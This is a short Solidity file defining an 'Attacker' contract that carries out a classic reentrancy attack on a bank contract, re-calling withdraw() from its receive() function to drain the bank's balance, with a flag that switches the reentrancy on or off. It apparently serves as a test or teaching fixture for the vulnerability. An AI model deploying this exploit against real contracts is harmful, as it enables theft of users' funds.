// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IBank {
    function deposit() external payable;
    function withdraw() external;
}

contract Attacker {
    IBank private immutable bank;
    bool private immutable reenters;

    constructor(address target, bool reenters_) {
        bank = IBank(target);
        reenters = reenters_;
    }

    function attack() external payable {
        bank.deposit{value: msg.value}();
        bank.withdraw();
    }

    receive() external payable {
        if (reenters && address(bank).balance >= msg.value) bank.withdraw();
    }
}
